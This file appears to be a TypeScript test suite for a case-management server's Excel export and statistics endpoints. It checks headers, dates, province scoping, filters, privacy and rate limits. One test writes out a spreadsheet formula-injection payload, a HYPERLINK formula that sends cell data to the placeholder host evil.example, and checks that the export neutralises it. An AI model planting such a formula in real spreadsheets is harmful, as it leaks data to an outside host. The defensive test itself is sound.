import ExcelJS from 'exceljs';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CaseView } from '../../engine/cases/case-view.js';
import type { Statistics } from '../../server/reports/statistics.js';
import { downloadName } from '../../designer/src/reports/download-name.js';
import { MINISTRIES, PROCESS, ServerHarness, throughCreation, tinyPdf, withUsers } from './harness.js';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** GET /api/cases/export.xlsx as the user, checked against the document, parsed back with exceljs. */
async function exported(h: ServerHarness, username: string, query = '', language = 'zh-CN') {
  const path = `/api/cases/export.xlsx${query}`;
  const response = await request(h.app)
    .get(path)
    .set('Authorization', `Bearer ${h.token(username)}`)
    .set('Accept-Language', language)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => {
        done(null, Buffer.concat(chunks));
      });
    });
  const body = response.body as Buffer;
  h.api.checker.checkResponse('get', path, {
    status: response.status,
    contentType: response.headers['content-type'],
    body: undefined,
    length: body.length,
  });
  expect(response.status).toBe(200);
  expect(response.headers['content-type']).toBe(XLSX);
  expect(response.headers['content-disposition']).toMatch(/^attachment; filename=.*\.xlsx/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (sheet === undefined) throw new Error('no worksheet');
  const rows: string[][] = [];
  sheet.eachRow((row) => {
    rows.push(
      // Text, or a date cell read back as its day (exceljs gives a date cell as midnight UTC).
      (row.values as unknown[])
        .slice(1)
        .map((value) =>
          typeof value === 'string' ? value : value instanceof Date ? value.toISOString().slice(0, 10) : '',
        ),
    );
  });
  const [headers = [], ...data] = rows;
  return {
    sheet,
    fileName: downloadName(String(response.headers['content-disposition'])) ?? '',
    headers,
    rows: data.map((row) => Object.fromEntries(headers.map((header, index) => [header, row[index] ?? '']))),
  };
}

async function statistics(h: ServerHarness, username: string, language = 'zh-CN'): Promise<Statistics> {
  const response = await h.api.get('/api/statistics', {
    token: h.token(username),
    headers: { 'Accept-Language': language },
  });
  expect(response.status).toBe(200);
  return response.body as Statistics;
}

const ids = (rows: readonly Record<string, string>[]) => rows.map((row) => row['案件编号']).sort();

describe('exports and statistics, scoped like GET /api/cases', () => {
  let h: ServerHarness;
  let recognised = ''; // P-001, 江苏, recognised after a dismissed objection
  let applying = ''; // P-002, 江苏, just started
  let zhejiang = ''; // P-003, 浙江, in creation
  const objectorName = '云澜区某精密机械有限公司';

  beforeAll(async () => {
    h = await ServerHarness.create();
    await withUsers(h);
    recognised = (await throughCreation(h, 'park1')).id;
    zhejiang = (await throughCreation(h, 'park3')).id;
    const started = await h.api.post('/api/cases', {
      token: h.token('park2'),
      body: { process: PROCESS, park: 'P-002', province: '320000' },
    });
    applying = (started.body as CaseView).id;
    await h.advanceTo('2025-04-02T09:00:00+08:00');
    await h.complete('park1', recognised, 'submitAcceptanceApplication');
    await h.complete('province', recognised, 'provincialAcceptanceReview');
    await h.complete('group', recognised, 'provincialLeadingGroupAcceptanceReview');
    for (const ministry of MINISTRIES) await h.complete(ministry, recognised, 'departmentOpinion');
    await h.complete('samr', recognised, 'samrAcceptanceReview');
    await h.complete('expert', recognised, 'expertEvaluation');
    const evidence = await h.api.post('/api/public/attachments', { raw: tinyPdf(), type: 'application/pdf' });
    const objection = await h.example('objection', { evidence: [(evidence.body as { id: string }).id] });
    const filed = await h.api.post(`/api/public/notices/${recognised}/objections`, { body: { data: objection } });
    expect(filed.status).toBe(201);
    await h.advanceTo('2025-04-11T09:00:00+08:00');
    await h.complete('samr', recognised, 'samrObjectionReview', { decision: 'dismissed' });
    expect((await h.complete('samr', recognised, 'samrRecognition')).status).toBe('demonstrating');
  }, 60_000);
  afterAll(async () => {
    await h.close();
  });

  it('exports every case SAMR sees, under Chinese headers, with names and dates filled in', async () => {
    const { headers, rows } = await exported(h, 'samr');
    expect(headers).toEqual(
      expect.arrayContaining(['案件编号', '园区', '省级单位', '状态', '版本', '发起日期', '下一日期']),
    );
    expect(ids(rows)).toEqual([recognised, applying, zhejiang].sort());
    const listed = (await h.api.get('/api/cases', { token: h.token('samr') })).body as CaseView[];
    expect(ids(rows)).toEqual(listed.map((view) => view.id).sort());
    expect(rows.find((row) => row['案件编号'] === recognised)).toMatchObject({
      园区: '云澜湖智能装备产业园区',
      园区代码: 'P-001',
      省级单位: '江苏省',
      状态: '示范期内',
      版本: '2024-03-14',
      发起日期: '2024-04-01',
    });
    expect(rows.find((row) => row['案件编号'] === zhejiang)).toMatchObject({ 省级单位: '浙江省', 状态: '创建中' });
  });

  it('heads the columns, names the sheet and the file in English for the workbench in English', async () => {
    const chinese = await exported(h, 'samr');
    const english = await exported(h, 'samr', '', 'en');
    expect(english.headers).toEqual([
      'Case number',
      'Applicant',
      'Applicant code',
      'Region',
      'Region code',
      'Status',
      'Status date',
      'Process',
      'Rule version',
      'Started',
      'Next date',
      'Next date is for',
      'Closed',
    ]);
    expect(english.sheet.name).toBe('Cases');
    expect(english.fileName).toBe('cases-2025-04-11.xlsx');
    expect(chinese.sheet.name).toBe('案件');
    expect(chinese.fileName).toBe('案件列表-2025-04-11.xlsx');
    // The same rows; statuses, regions and the process title from the programme's English catalogue
    // (a region's name is the directory's, a programme's word: 江苏省 was left Chinese); the park's
    // name as it was written.
    const row = (rows: Record<string, string>[], id: string) => rows.find((each) => Object.values(each)[0] === id);
    expect(row(english.rows, recognised)).toMatchObject({
      'Case number': recognised,
      Applicant: '云澜湖智能装备产业园区',
      Region: 'Jiangsu',
      Status: 'In demonstration period',
      Started: '2024-04-01',
    });
    // As the workbench's case list: a record of what happened (the day of recognition) is no date to come.
    expect(row(english.rows, recognised)?.['Next date is for']).toBe(
      'Last day of the current demonstration year (the annual work report is due from the next day)',
    );
    expect(row(english.rows, recognised)?.Process).toBe(
      'Creation and administration of National Quality Brand Improvement Demonstration Zones',
    );
    expect(english.rows.map((each) => each['Case number']).sort()).toEqual(ids(chinese.rows));
  });

  it('writes the dates as date cells, so that a date filter or a subtraction in Excel takes them', async () => {
    const { sheet, headers, rows } = await exported(h, 'samr');
    const row = rows.findIndex((each) => each['案件编号'] === recognised) + 2;
    for (const header of ['状态日期', '发起日期']) {
      const cell = sheet.getRow(row).getCell(headers.indexOf(header) + 1);
      expect(cell.type, header).toBe(ExcelJS.ValueType.Date);
      expect(cell.numFmt, header).toBe('yyyy-mm-dd');
    }
    expect(rows[row - 2]).toMatchObject({ 发起日期: '2024-04-01', 办结日期: '' });
  });

  it('exports only its own province’s cases to a province, whatever filter it sends', async () => {
    expect(ids((await exported(h, 'province')).rows)).toEqual([recognised, applying].sort());
    expect(ids((await exported(h, 'province2')).rows)).toEqual([zhejiang]);
    // Asking for another province does not widen the scope: nothing.
    expect((await exported(h, 'province', '?province=330000')).rows).toEqual([]);
    expect(ids((await exported(h, 'park2')).rows)).toEqual([applying]);
  });

  it('honours the case list’s filters: status, process, province and words', async () => {
    expect(ids((await exported(h, 'samr', '?status=demonstrating')).rows)).toEqual([recognised]);
    expect(ids((await exported(h, 'samr', '?status=demonstrating,applying')).rows)).toEqual(
      [recognised, applying].sort(),
    );
    expect(ids((await exported(h, 'samr', '?province=330000')).rows)).toEqual([zhejiang]);
    // The region under its neutral name is the same filter.
    expect(ids((await exported(h, 'samr', '?region=330000')).rows)).toEqual([zhejiang]);
    expect(ids((await exported(h, 'samr', `?process=${PROCESS}&q=${encodeURIComponent('浙江')}`)).rows)).toEqual([
      zhejiang,
    ]);
    expect(ids((await exported(h, 'samr', '?q=P-002')).rows)).toEqual([applying]);
    expect((await exported(h, 'samr', '?process=no-such-process')).rows).toEqual([]);
    // Nothing found is still headed in the programme's words (QA: 申报主体, 所属地区).
    const none = await exported(h, 'samr', '?q=nothing-matches');
    expect(none.rows).toEqual([]);
    expect(none.headers).toEqual(expect.arrayContaining(['园区', '园区代码', '省级单位']));
  });

  it('never names an objector (Art. 22) in an export', async () => {
    const { rows } = await exported(h, 'samr');
    expect(JSON.stringify(rows)).not.toContain(objectorName);
  });

  it('refuses an export without a login', async () => {
    expect((await h.api.get('/api/cases/export.xlsx')).status).toBe(401);
  });

  it('counts SAMR’s statistics over every province', async () => {
    const figures = await statistics(h, 'samr');
    expect(figures.total).toBe(3);
    expect(figures.byRegionStatus.map((row) => [row.regionName, row.statusTitle, row.count]).sort()).toEqual(
      [
        ['江苏省', '创建申请中', 1],
        ['江苏省', '示范期内', 1],
        ['浙江省', '创建中', 1],
      ].sort(),
    );
    expect(figures.designatedByType).toEqual([{ type: 'industry', title: '工业', count: 1 }]);
    const entered = (status: string) =>
      figures.stagesOverTime.filter((row) => row.status === status).map((row) => [row.month, row.count]);
    expect(entered('applying')).toEqual([['2024-04', 3]]);
    expect(entered('creating')).toEqual([['2024-04', 2]]);
    expect(entered('demonstrating')).toEqual([['2025-04', 1]]);
    expect(JSON.stringify(figures)).not.toContain(objectorName);
  });

  it('titles the statistics in English from the catalogue when asked (statuses, regions, types), the counts as in Chinese', async () => {
    const [chinese, english] = await Promise.all([statistics(h, 'samr'), statistics(h, 'samr', 'en')]);
    expect(english.byRegionStatus.map((row) => [row.regionName, row.statusTitle, row.count]).sort()).toEqual(
      [
        ['Jiangsu', 'Creation application in progress', 1],
        ['Jiangsu', 'In demonstration period', 1],
        ['Zhejiang', 'Creation in progress', 1],
      ].sort(),
    );
    expect(english.designatedByType).toEqual([{ type: 'industry', title: 'Industry', count: 1 }]);
    const codes = (figures: Statistics) =>
      figures.stagesOverTime.map(({ month, status, count }) => [month, status, count]);
    expect(codes(english)).toEqual(codes(chinese));
    expect(english.stagesOverTime.find((row) => row.status === 'creating')?.statusTitle).toBe('Creation in progress');
    expect(JSON.stringify(english)).not.toMatch(/[\u3400-\u9fff]/);
  });

  it('counts a province’s statistics over its own province only', async () => {
    const zhejiangOnly = await statistics(h, 'province2');
    expect(zhejiangOnly.total).toBe(1);
    expect(zhejiangOnly.byRegionStatus).toEqual([
      { region: '330000', regionName: '浙江省', status: 'creating', statusTitle: '创建中', count: 1 },
    ]);
    expect(zhejiangOnly.designatedByType).toEqual([]);
    expect(zhejiangOnly.stagesOverTime.map((row) => [row.status, row.count])).toEqual([
      ['applying', 1],
      ['creating', 1],
    ]);
    const jiangsu = await statistics(h, 'province');
    expect(jiangsu.total).toBe(2);
    expect(new Set(jiangsu.byRegionStatus.map((row) => row.region))).toEqual(new Set(['320000']));
  });

  // Last: it names park2's case. A park's own name is the one text in an export it types.
  it('writes a park name a spreadsheet would take for a formula as text, after an apostrophe', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"详情")';
    await h.complete('park2', applying, 'submitCreationApplication', { parkType: 'industry', parkName: formula });
    const row = (await exported(h, 'samr')).rows.find((exportedRow) => exportedRow['案件编号'] === applying);
    expect(row?.['园区']).toBe(`'${formula}`);
    // Other names, and the other cells, are as they were.
    const named = (await exported(h, 'samr')).rows.find((exportedRow) => exportedRow['案件编号'] === recognised);
    expect(named).toMatchObject({ 园区: '云澜湖智能装备产业园区', 发起日期: '2024-04-01' });
  });

  // Last of all: it moves the clock two years on.
  it('passes a fire day at 00:00: on the day re-review opens its next date is the one after; a last day shows on its day', async () => {
    const { due } = await h.case(recognised);
    const opens = due.reReviewOpens ?? '';
    const ends = due.demonstrationEnds ?? '';
    expect(opens < ends).toBe(true);
    await h.advanceTo(`${opens}T09:00:00+08:00`);
    // Its timer fired at 00:00 (the park may apply), and the list says which of its dates are such days.
    expect((await h.tasks('park1')).map((task) => task.taskId)).toContain('submitReReviewApplication');
    const listed = ((await h.api.get('/api/cases', { token: h.token('samr') })).body as CaseView[]).find(
      (view) => view.id === recognised,
    );
    expect(listed?.due.reReviewOpens).toBe(opens);
    expect(listed?.dueFireDays).toEqual(['acceptanceOpens', 'reReviewOpens']);
    const next = (await exported(h, 'samr')).rows.find((row) => row['案件编号'] === recognised);
    expect(next?.['下一日期']).not.toBe(opens);
    expect(next?.['下一日期']).toBe(ends);
    // The period's last day is a deadline: on it, it is still the next date.
    await h.advanceTo(`${ends}T09:00:00+08:00`);
    const last = (await exported(h, 'samr')).rows.find((row) => row['案件编号'] === recognised);
    expect(last?.['下一日期']).toBe(ends);
  });
});

/** Each export reads every case the account sees and writes a workbook: one account's loop must not hold up everyone. */
describe('exports per account are limited', () => {
  let h: ServerHarness;

  beforeAll(async () => {
    h = await ServerHarness.create({ limits: { exportsPerMinute: 2 } });
    await withUsers(h, ['park1', 'samr']);
  });
  afterAll(async () => {
    await h.close();
  });

  it('answers 429 with Retry-After past the limit, in the reader’s language, for that account only', async () => {
    const exportAs = (username: string, language = 'zh-CN') =>
      request(h.app)
        .get('/api/cases/export.xlsx')
        .set('Authorization', `Bearer ${h.token(username)}`)
        .set('Accept-Language', language);
    for (let index = 0; index < 2; index += 1) expect((await exportAs('park1')).status).toBe(200);
    const refused = await exportAs('park1');
    expect([refused.status, (refused.body as { error: { code: string; message: string } }).error]).toEqual([
      429,
      {
        code: 'too-many-requests',
        message: expect.stringMatching(/^导出 Excel 过于频繁，请 \d+ 秒后再试$/) as unknown,
      },
    ]);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    const english = await exportAs('park1', 'en');
    expect((english.body as { error: { message: string } }).error.message).toMatch(
      /^Too many Excel exports; try again in \d+ seconds?$/,
    );
    // Another account's exports are its own.
    expect((await exportAs('samr')).status).toBe(200);
  });
});
